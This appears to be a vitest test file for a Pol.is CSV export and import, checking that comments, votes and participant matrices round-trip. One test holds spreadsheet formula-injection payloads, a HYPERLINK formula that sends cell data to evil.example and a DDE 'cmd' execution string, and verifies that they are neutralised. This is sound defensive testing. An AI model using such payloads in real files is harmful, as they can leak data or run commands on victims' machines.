import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import {
  buildVoteMatrix,
  commentsRows,
  matrixFromParticipantsVotes,
  moderatedOutIds,
  participantsVotesRows,
  readCommentsCsv,
  readParticipantsVotesCsv,
  readSummaryCsv,
  readVotesCsv,
  summaryRows,
  votesRows,
  type PolisComment,
  type Vote,
  type VoteValue,
} from '../../engines/opinion/index.ts';
import { neutraliseFormula } from '../../web/csv.ts';
import { polisCsv } from './polis-export.ts';

const comments: PolisComment[] = [
  { id: '0', authorId: '7', timestamp: 1500000000000, agrees: 3, disagrees: 1, moderated: 1, body: 'Plain' },
  { id: '1', authorId: '8', timestamp: 1500000001000, agrees: 0, disagrees: 2, moderated: -1, body: 'Says "no", twice\nand more' },
];

describe('Pol.is export written with the shared CSV writer, read back by the engine', () => {
  it('round-trips comments and their moderation', () => {
    const read = readCommentsCsv(polisCsv(commentsRows(comments)));
    expect(read).toEqual(comments);
    expect(moderatedOutIds(read)).toEqual(['1']);
  });

  it('round-trips the vote history, the latest vote winning', () => {
    const votes: Vote[] = [
      { participant: 'p', statement: '0', vote: -1, time: 20 },
      { participant: 'p', statement: '0', vote: 1, time: 10 },
    ];
    const read = readVotesCsv(polisCsv(votesRows(votes)));
    expect(read).toEqual(votes);
    expect(Array.from(buildVoteMatrix(read).values)).toEqual([-1]);
  });

  it('round-trips summary pairs, including multi-line values', () => {
    const entries: [string, string][] = [['topic', 'A, b'], ['conversation-description', 'line 1\nline "2"']];
    expect(readSummaryCsv(polisCsv(summaryRows(entries)))).toEqual(entries);
  });

  it('writes participants-votes with groups and counts, votes as plain numbers', () => {
    const m = buildVoteMatrix([
      { participant: 'p', statement: 'a', vote: 1 },
      { participant: 'p', statement: 'b', vote: -1 },
      { participant: 'q', statement: 'b', vote: 0 },
    ]);
    const text = polisCsv(participantsVotesRows(m, { groupOf: (i) => (i === 0 ? 1 : null), commentsWritten: (id) => (id === 'q' ? 2 : 0) }));
    expect(text).toBe('participant,group-id,n-comments,n-votes,n-agree,n-disagree,a,b\np,1,0,2,1,1,1,-1\nq,,2,1,0,0,,0\n');
    expect(readParticipantsVotesCsv(text).participants).toEqual([{ id: 'p', groupId: 1, commentCount: 0 }, { id: 'q', groupId: null, commentCount: 2 }]);
  });

  it('neutralises statement text a spreadsheet would run, and nothing else', () => {
    const bodies = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1)', '\t=1', ' =1+1', '-1'];
    const text = polisCsv(commentsRows(bodies.map((body, i) => ({ ...comments[0], id: String(i), moderated: i % 2 ? -1 : 1, body }))));
    const read = readCommentsCsv(text);
    expect(read.map((c) => c.body)).toEqual([
      '\'=HYPERLINK("http://evil.example/?x="&A1,"clic")',
      '\'+cmd|\' /C calc\'!A0',
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1",
      "' =1+1",
      '-1',
    ]);
    // The numbers beside them are still numbers: moderation −1 and the counts read back unchanged.
    expect(read.map((c) => [c.moderated, c.agrees, c.timestamp])).toEqual(bodies.map((_, i) => [i % 2 ? -1 : 1, 3, 1500000000000]));
  });

  it('reads back any text as written once neutralised (property)', () => {
    const body = fc.string({ unit: fc.constantFrom('a', 'é', ',', ';', '"', '\n', '\r\n', ' ', '1', '=', '-', '+', '@', '\t') });
    fc.assert(
      fc.property(fc.array(body, { minLength: 1, maxLength: 5 }), (bodies) => {
        const written = bodies.map((b, i) => ({ ...comments[0], id: String(i), body: b }));
        // CR LF inside a quoted field is kept; the reader gives the body back as the file holds it.
        expect(readCommentsCsv(polisCsv(commentsRows(written))).map((c) => c.body)).toEqual(bodies.map(neutraliseFormula));
      }),
    );
  });

  it('writing then reading participants-votes gives the same matrix (property)', () => {
    const vote = fc.record({
      participant: fc.constantFrom('1', '2', 'x,y', 'q"t', '-3'),
      statement: fc.constantFrom('0', '1', '5', '12'),
      vote: fc.constantFrom<VoteValue>(-1, 0, 1),
    });
    fc.assert(
      fc.property(fc.array(vote, { maxLength: 30 }), fc.subarray(['0', '1', '5', '12']), (votes, moderated) => {
        const m = buildVoteMatrix(votes, { statements: ['0', '1', '5', '12'], moderatedOut: moderated });
        const moderation: PolisComment[] = moderated.map((id) => ({ ...comments[1], id }));
        const back = matrixFromParticipantsVotes(readParticipantsVotesCsv(polisCsv(participantsVotesRows(m))), moderation);
        expect(back.participantIds).toEqual(m.participantIds);
        expect(back.statementIds).toEqual(m.statementIds);
        expect(Array.from(back.rowStart)).toEqual(Array.from(m.rowStart));
        expect(Array.from(back.columns)).toEqual(Array.from(m.columns));
        expect(Array.from(back.values)).toEqual(Array.from(m.values));
        expect(Array.from(back.moderatedOut)).toEqual(Array.from(m.moderatedOut));
      }),
    );
  });
});
